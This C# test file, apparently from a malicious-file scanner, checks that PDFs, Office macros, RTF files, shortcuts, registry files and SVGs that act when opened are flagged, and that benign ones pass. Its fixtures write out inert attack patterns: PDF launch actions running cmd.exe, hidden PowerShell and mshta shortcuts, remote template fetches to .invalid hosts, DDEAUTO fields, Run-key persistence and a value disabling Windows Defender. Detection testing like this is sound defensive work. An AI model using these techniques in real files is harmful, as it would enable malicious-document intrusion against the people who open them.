using System.Text;
using Assay.Scanning.Tests.Evasions;
using Assay.Testing;

namespace Assay.Scanning.Tests.Documents;

/// <summary>Documents and shortcuts that act when they are opened, beside honest ones, which are read and clean.</summary>
public sealed class DocumentTests
{
    [Theory]
    [InlineData("/OpenAction << /S /JavaScript /JS (this.exportDataObject({cName: 'x', nLaunch: 2});) >>", "", "", "leaves the document")]
    [InlineData("/OpenAction 60 0 R", "", "<< /S /JavaScript /JS (app.launchURL\\('http://x.invalid'\\)) >>", "leaves the document")]
    [InlineData("/Open#41ction 60 0 R", "", "<< /S /J#61vaScript /#4AS <6170702e6c61756e636855524c2829> >>", "leaves the document")]
    [InlineData("/OpenAction 7 0 R", "7 0 obj\n<< /S /Launch /Win << /F (cmd.exe) /P (/c echo assay) >> >>\nendobj\n", "", "cmd.exe /c echo assay")]
    [InlineData("", "7 0 obj\n<< /Type /Action /S /Launch /F (setup.exe) >>\nendobj\n", "", "starts a program")]
    [InlineData("/OpenAction << /S /GoToE /F (\\\\\\\\files.invalid\\\\share) /D [0 /Fit] >>", "", "", "fetches a part")]
    public void A_document_that_acts_is_suspicious(string catalogue, string objects, string packed, string words) =>
        ScanAssert.HasRule(ScanAssert.Suspicious(DocumentBuilder.Pdf(catalogue, objects, packed), words, "paper.pdf"), "OFD-001");

    [Theory]
    [InlineData("", "", "")]
    [InlineData("/OpenAction [3 0 R /Fit] /PageMode /UseOutlines", "7 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://developer.example/docs/Web/JavaScript) >> >>\nendobj\n", "")]
    [InlineData("/AcroForm << /Fields [8 0 R] >>", "8 0 obj\n<< /FT /Tx /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\", true\\);) >> >> >>\nendobj\n", "")]
    [InlineData("/Names << /JavaScript 9 0 R >>", "", "<< /S /JavaScript /JS (var i = 0; this.pageNum = i;) >>")]
    [InlineData("", "9 0 obj\n<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream\nendobj\n", "")]
    [InlineData("", "7 0 obj\n<< /Title (How to use /Launch and /JS) >>\nendobj\n", "")]
    public void An_honest_paper_is_read_and_clean(string catalogue, string objects, string packed) => ScanAssert.Clean(DocumentBuilder.Pdf(catalogue, objects, packed), "paper.pdf");

    [Fact]
    public void An_encrypted_paper_is_incomplete() =>
        Assert.Equal(Verdict.Incomplete, ScanAssert.Scan(DocumentBuilder.Pdf("", "5 0 obj\n<< /Encrypt 6 0 R >>\nendobj\n"), "paper.pdf").Verdict);

    [Fact]
    public void Macros_are_decompressed_and_judged()
    {
        var auto = ScanAssert.Suspicious(DocumentBuilder.Macro("Sub AutoOpen()\r\n  Shell \"calc\"\r\nEnd Sub\r\n"), "runs when it is opened", "card.doc");
        ScanAssert.HasRule(auto, "OFD-001");
        ScanAssert.NotAccused(DocumentBuilder.Macro("Sub Tidy()\r\n  ActiveCell.Value = 1\r\nEnd Sub\r\n"), "table.xls");
        ScanAssert.Clean(DocumentBuilder.Compound(("WordDocument", new byte[9000]), ("1Table", new byte[300])), "paper.doc");
        ScanAssert.Clean(DocumentBuilder.Macro(""), "table.xls");
        ScanAssert.Suspicious(DocumentBuilder.Compound(("_VBA_PROJECT", new byte[64]), ("Module1", new byte[400])), "compiled form", "card.doc");
    }

    [Fact]
    public void A_long_macro_is_decompressed_with_its_copies()
    {
        // Chunk: flag 0 and eight letters, then a copy of the eight letters before.
        byte[] packed = [1, 0x0B, 0xB0, 0, .. "Attribut"u8, 1, 0x05, 0x70];
        var report = ScanAssert.Scan(DocumentBuilder.Compound(("_VBA_PROJECT", new byte[64]), ("M", [.. new byte[100], .. packed, .. new byte[200]])), "card.doc");
        Assert.Contains(report.Findings, f => f.Rule.Id == "OFD-001" && f.Severity == Severity.Medium);
    }

    [Theory]
    [InlineData("{\\rtf1{\\*\\template http://files.invalid/x.dotm}}", "fetches a part")]
    [InlineData("{\\rtf1{\\object\\objupdate{\\*\\objclass Word.Document}}}", "break-ins")]
    [InlineData("{\\rtf1{\\object{\\*\\objclass Equation.3}}}", "break-ins")]
    [InlineData("{\\rtf1{\\field{\\*\\fldinst {DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe \"/c echo assay\"}}}}", "fill in a value")]
    public void A_rich_text_that_acts_is_suspicious(string text, string words) => ScanAssert.Suspicious(Encoding.ASCII.GetBytes(text), words, "notes.rtf");

    [Fact]
    public void Objects_of_rich_text_are_opened()
    {
        var inner = DocumentBuilder.Macro("Sub AutoOpen()\r\nEnd Sub\r\n x = 1");
        var text = "{\\rtf1{\\object\\objemb{\\*\\objdata " + DocumentBuilder.RtfObject("Word.Document.8", inner).Insert(40, "{\\*\\x}\r\n") + "}}}";
        ScanAssert.Suspicious(Encoding.ASCII.GetBytes(text), "runs when it is opened", "notes.rtf");
        ScanAssert.Clean("{\\rtf1\\ansi\\deff0 {\\fonttbl{\\f0 Arial;}} Plain {\\field{\\*\\fldinst HYPERLINK \"https://x.example\"}{\\fldrslt here}} text\\par}"u8.ToArray(), "notes.rtf");
    }

    [Theory]
    [InlineData("word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://files.invalid/x.dotm\" TargetMode=\"External\"/></Relationships>", "fetches a part")]
    [InlineData("word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" Target=\"mhtml:http://files.invalid/x!y\" TargetMode=\"External\"/></Relationships>", "fetches a part")]
    [InlineData("word/document.xml", "<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x.exe </w:instrText></w:r></w:p>", "fill in a value")]
    [InlineData("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>", "Excel 4.0")]
    public void An_office_package_that_acts_is_suspicious(string part, string content, string words) =>
        ScanAssert.Suspicious(Package((part, Encoding.UTF8.GetBytes(content))), words, "card.docx");

    [Fact]
    public void Macros_in_office_packages_are_judged_and_honest_packages_clean()
    {
        ScanAssert.Suspicious(Package(("word/vbaProject.bin", DocumentBuilder.Macro("Sub Document_Open()\r\nx = 1\r\nEnd Sub\r\n"))), "runs when it is opened", "card.docm");
        ScanAssert.Clean(
            Package(("word/document.xml", "<w:p><w:instrText> PAGE </w:instrText></w:p>"u8.ToArray()), ("word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://x.example\" TargetMode=\"External\"/></Relationships>"u8.ToArray())),
            "card.docx");
    }

    [Theory]
    [InlineData("powershell.exe", "-w hidden -c echo assay")]
    [InlineData(@"C:\Windows\System32\cmd.exe", "/c start.bat")]
    [InlineData("mshta.exe", "https://files.invalid/x.hta")]
    [InlineData(@"\\files.invalid\share\x.exe", "")]
    public void A_shortcut_to_a_command_is_suspicious(string target, string arguments) =>
        ScanAssert.Suspicious(DocumentBuilder.Shortcut(target, arguments), "The shortcut starts", "open me.lnk");

    [Fact]
    public void A_shortcut_to_a_document_is_a_note() =>
        ScanAssert.NotAccused(DocumentBuilder.Shortcut(@"..\docs\manual.pdf", ""), "manual.lnk");

    [Theory]
    [InlineData("x.url", "[InternetShortcut]\r\nURL=file://files.invalid/share/x.exe\r\n")]
    [InlineData("x.url", "[InternetShortcut]\r\nURL=https://x.example\r\nIconFile=\\\\files.invalid\\x.ico\r\n")]
    [InlineData("x.scf", "[Shell]\r\nIconFile=\\\\files.invalid\\x.ico\r\n")]
    [InlineData("x.library-ms", "<libraryDescription><url>\\\\files.invalid\\share</url></libraryDescription>")]
    [InlineData("x.reg", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"x.exe\"\r\n")]
    [InlineData("x.reg", "Windows Registry Editor Version 5.00\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender]\r\n\"DisableAntiSpyware\"=dword:1\r\n")]
    [InlineData("x.inf", "[version]\r\nsignature=$x$\r\n[DefaultInstall]\r\nRunPreSetupCommands=a\r\n")]
    public void A_file_that_a_desktop_acts_upon_is_suspicious(string name, string text) => ScanAssert.Suspicious(Encoding.UTF8.GetBytes(text), "", name);

    [Theory]
    [InlineData("x.url", "[InternetShortcut]\r\nURL=https://huggingface.co/org/model\r\n")]
    [InlineData("x.reg", "Windows Registry Editor Version 5.00\r\n[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\FileSystem]\r\n\"LongPathsEnabled\"=dword:1\r\n")]
    [InlineData("x.desktop", "[Desktop Entry]\nType=Application\nName=App\nExec=app %f\n")]
    [InlineData("logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/><foreignObject><div>text</div></foreignObject></svg>")]
    [InlineData("x.webloc", "<?xml version=\"1.0\"?><plist><dict><key>URL</key><string>https://x.example</string></dict></plist>")]
    public void Honest_ones_are_clean(string name, string text) => ScanAssert.Clean(Encoding.UTF8.GetBytes(text), name);

    [Theory]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>x()</script></svg>")]
    [InlineData("<?xml version=\"1.0\"?>\n<svg onload=\"x()\"></svg>")]
    public void A_picture_with_a_script_is_reported(string text) =>
        Assert.Contains(ScanAssert.Scan(Encoding.UTF8.GetBytes(text), "logo.svg").Findings, f => f.Rule.Id == "OFD-001" && f.Severity == Severity.Medium);

    private static byte[] Package(params (string Name, byte[] Content)[] parts)
    {
        var zip = new ZipBuilder().Add("[Content_Types].xml", "<Types/>");
        foreach (var (name, content) in parts)
            zip.Add(name, content);
        return zip.Build();
    }
}
